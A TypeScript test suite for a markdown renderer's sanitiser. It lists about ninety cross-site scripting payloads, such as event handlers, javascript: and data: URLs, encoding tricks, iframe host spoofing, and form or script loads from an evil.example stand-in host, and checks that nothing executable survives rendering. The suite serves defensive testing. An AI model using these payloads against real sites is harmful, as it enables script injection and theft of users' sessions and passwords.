import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { faultsIn } from './harmless.ts'
import { renderMarkdown } from './render-markdown.ts'

const render = (markdown: string) =>
  renderMarkdown(markdown, {
    publicUrl: 'https://addons.example',
    trustedMediaHosts: ['github.com'],
    imageProxy: (address) => `https://proxy.example/?url=${encodeURIComponent(address)}`,
  })

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" OnErRoR="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src="javascript:alert(1)">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img srcset="javascript:alert(1) 1x, x 2x">',
  '<img src=x title="&quot; onerror=alert(1)">',
  '<img src=x alt="`><script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="blob:https://addons.example/x">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="https://x.example" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '[x](javascript:alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x]: javascript:alert(1)\n\n[x]',
  '![x](javascript:alert(1))',
  '![x"onerror="alert(1)](https://x.example/a.png)',
  '![x](https://x.example/a.png"onerror="alert(1))',
  '[x](https://x.example "t\\" onmouseover=\\"alert(1)")',
  '<javascript:alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube.com/embed/abcdefghijk" srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/abcdefghijk"></iframe>',
  '<iframe src="https://www.youtube.com@evil.example/embed/abcdefghijk"></iframe>',
  '<iframe src="https://evil.example/#https://www.youtube.com/embed/abcdefghijk"></iframe>',
  '<iframe src="https://www.youtube.com/embed/abcdefghijk"><img src=x onerror=alert(1)></iframe>',
  '<form action="https://evil.example"><input name=password type=password><button formaction=javascript:alert(1)>x</button></form>',
  '<input type=checkbox autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
  '<video poster="javascript:alert(1)"></video>',
  '<audio src="javascript:alert(1)" autoplay></audio>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1)); text-align: center">x</div>',
  '<div style="float:left;position:fixed;top:0;behavior:url(x)">x</div>',
  '<p class="fixed inset-0 z-50" id="root">x</p>',
  '<h1 id="a b\'><script>">x</h1>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?php <img src=x onerror=alert(1)> ?>',
  '```js"><img src=x onerror=alert(1)>\ncode\n```',
  '```html\n<script>alert(1)</script>\n```',
  '``<img src=x onerror=alert(1)>``',
  '# <img src=x onerror=alert(1)> "onclick="alert(1)',
  '|<img src=x onerror=alert(1)>|\n|-|\n|<script>alert(1)</script>|',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>',
  '<a href="https://x.example" target="_self" rel="opener">x</a>',
  '<a\x00href="javascript:alert(1)">x</a>',
  '<img src=x onerror\x0b=alert(1)>',
  '\u2028<img src=x\u2029onerror=alert(1)>',
  '<<img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)//',
  '<unknown onclick=alert(1)>x</unknown>',
  '<a href="//evil.example" ping="https://evil.example">x</a>',
]

describe('an attack', () => {
  it.each(attacks)('leaves nothing that could run: %j', (attack) => {
    expect(faultsIn(render(attack))).toEqual([])
    expect(faultsIn(render(`text ${attack} text`))).toEqual([])
    expect(faultsIn(render(`> - ${attack}\n\n<div>${attack}</div>`))).toEqual([])
  })

  it('leaves nothing that could run when its pieces are mixed', () => {
    const pieces = fc.constantFrom(...attacks, ...attacks.flatMap((attack) => attack.split(/(?=[<"'>=\s])/)))
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 12 }), (parts) => {
        expect(faultsIn(render(parts.join('')))).toEqual([])
      }),
      { numRuns: 500 },
    )
  })

  it('is detected by the check itself', () => {
    const seen = [
      '<script>',
      '<img src="x" onerror="alert(1)" />',
      '<a href="javascript:alert(1)">',
      '<p>a > b</p>',
      '<p style="position: fixed">',
      '<p <b>',
    ]
    for (const html of seen) expect(faultsIn(html), html).not.toEqual([])
  })
})
